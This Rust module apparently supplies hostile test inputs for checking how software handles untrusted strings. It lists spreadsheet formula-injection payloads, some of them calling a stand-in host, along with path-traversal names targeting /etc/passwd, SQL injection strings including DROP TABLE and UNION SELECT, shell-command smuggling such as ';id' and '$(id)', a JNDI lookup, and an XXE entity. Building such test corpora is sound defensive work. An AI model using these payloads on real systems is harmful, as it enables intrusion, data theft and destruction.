//! What has a meaning to a spreadsheet, a file system, a database or a template.

use super::owned;

/// What a spreadsheet would take for a formula.
pub(super) fn formulas() -> Vec<String> {
    let bodies = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"//e\",\"x\")",
        "SUM(A1:A9)",
        "WEBSERVICE(\"//e\")",
        "IMPORTXML(\"//e\",\"//a\")",
    ];
    let begins = ["=", "+", "-", "@", "|", "%", ";=", "\"=", "'="];
    begins.iter().flat_map(|begin| bodies.map(|body| format!("{begin}{body}"))).collect()
}

pub(super) fn file_names() -> Vec<String> {
    let devices = |n| [format!("COM{n}"), format!("LPT{n}"), format!("COM{n}.txt"), format!("LPT{n}.txt")];
    let mut made: Vec<String> = (1..=9).flat_map(devices).collect();
    for depth in [1, 3, 8] {
        for (up, target) in
            [("../", "etc/passwd"), ("..\\", "boot.ini"), ("%2e%2e%2f", "x"), ("..%252f", "x"), ("....//", "x")]
        {
            made.push(format!("{}{target}", up.repeat(depth)));
        }
    }
    let between =
        ["/", "\\", ":", "*", "?", "\"", "<", ">", "|", "%00", "%0a", ";", "&", "#", "~", "^", "{", "}", "[", "]"];
    made.extend(between.map(|between| format!("a{between}b.txt")));
    made.extend(owned(&[
        "CON",
        "PRN",
        "AUX",
        "NUL",
        "nul.html",
        ".",
        "..",
        "...",
        ".htaccess",
        ".env",
        "a.php.jpg",
        "a.html;.jpg",
        "a.",
        "a .txt",
        "-rf",
        "--help",
        "/etc/passwd",
        "C:\\Windows\\win.ini",
        "\\\\host\\share",
        "file:///etc/passwd",
        "a.svg",
        "desktop.ini",
        "Thumbs.db",
        "~root",
        "$HOME",
        "%TEMP%",
        "a'b.txt",
        "a`b`.txt",
        "a\u{2044}b",
        "a\u{ff0f}b",
        "caf\u{e9}.txt",
        "cafe\u{301}.txt",
        "\u{1f4c4}.txt",
        "a.txt.exe",
        "index.html#x",
        "a?download=1",
        "a=b&c=d.txt",
    ]));
    made
}

pub(super) fn statements() -> Vec<String> {
    owned(&[
        "' OR '1'='1",
        "' OR 1=1--",
        "'; DROP TABLE org; --",
        "\" OR \"\"=\"",
        "1; ATTACH DATABASE 'x' AS x",
        "x' UNION SELECT name FROM person --",
        "x') OR ('1'='1",
        "x'||(SELECT 1)||'",
        "'; SELECT pg_sleep(5); --",
        "x%' ESCAPE '!",
        "100%",
        "a_b",
        "%%__%%",
        "\\",
        "\\'",
        "x\\' OR 1=1",
        "$1 $2 $3",
        "?1 ?2",
        ":name @name",
        "/* x */ 1",
        "E'\\x41'",
        "{uuid} {json} {time}",
        "O'Brien",
        "''''",
    ])
}

pub(super) fn templates() -> Vec<String> {
    owned(&[
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%=7*7%>",
        "{%raw%}x{%endraw%}",
        "{ $name }",
        "{ -product }",
        "{\"quoted\"}",
        "{ NUMBER($x) }",
        "{",
        "}",
        "{value}",
        "%s%n%x%d",
        "%(name)s",
        "{0}{1}",
        "$(id)",
        "`id`",
        "|id",
        ";id",
        "&&id",
        "\\n\\r\\t",
        "\\u0000",
        "\\x00x",
        "%00",
        "%0d%0aX-Y: z",
        "{\"a\":[1,null]}",
        "[\"a\",\"b\"]",
        "a,b;c",
        "a: &b *b",
        "---",
        "#!/bin/sh",
        "${jndi:ldap://e/x}",
        "!!python/object:x",
        "<!ENTITY x SYSTEM \"//e\">",
        "\"",
    ])
}
